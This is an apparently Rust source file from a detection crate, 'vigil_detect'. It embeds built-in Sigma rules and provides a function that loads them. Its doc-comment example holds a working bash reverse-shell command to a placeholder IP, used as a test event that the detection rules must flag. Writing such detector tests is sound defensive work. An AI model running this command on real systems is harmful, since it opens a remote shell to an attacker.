//! The built-in rule pack: Vigil's own Sigma rules from `rules/` (Linux, network, Windows),
//! embedded in the library at build time so `vigil serve` and `vigil hunt` load them without
//! touching the filesystem.
//!
//! Every rule file carries its own test events under the custom top-level key
//! `x-vigil-tests` (ignored by the loader, as the Sigma specification allows for custom
//! attributes): `true_positives` and `true_negatives` for detection rules, timed `sequences`
//! with the expected number of matches for correlation rules. `tests/builtin.rs` runs them,
//! one test per rule file.
//!
//! ```
//! use vigil_detect::{PipelineSet, builtin_rules};
//!
//! let report = builtin_rules();
//! assert!(report.errors.is_empty());
//! let engine = report.correlation_engine()?;
//! let ruleset = report.into_ruleset_with(&PipelineSet::builtin()?);
//! let event = serde_json::json!({
//!     "event": {"category": "process", "type": "start"},
//!     "host": {"os": {"type": "linux"}},
//!     "process": {"executable": "/bin/bash", "command_line": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"}
//! });
//! assert!(ruleset.matches(&event).count() >= 1);
//! # let _ = engine;
//! # Ok::<(), vigil_detect::Error>(())
//! ```

use std::path::Path;

use crate::engine::{LoadReport, load_sources};
use crate::value::CompileOptions;

include!(concat!(env!("OUT_DIR"), "/builtin_rules.rs"));

/// Loads the built-in pack: detection rules, correlations (with their base rules resolved)
/// and filters. Errors name the file as `builtin:rules/<path>`; the crate's tests keep them
/// at zero.
pub fn builtin_rules() -> LoadReport {
    let paths: Vec<(String, &str)> = BUILTIN_RULE_FILES
        .iter()
        .map(|(path, text)| (format!("builtin:rules/{path}"), *text))
        .collect();
    load_sources(
        paths.iter().map(|(p, t)| (Path::new(p.as_str()), *t)),
        &CompileOptions::default(),
    )
}
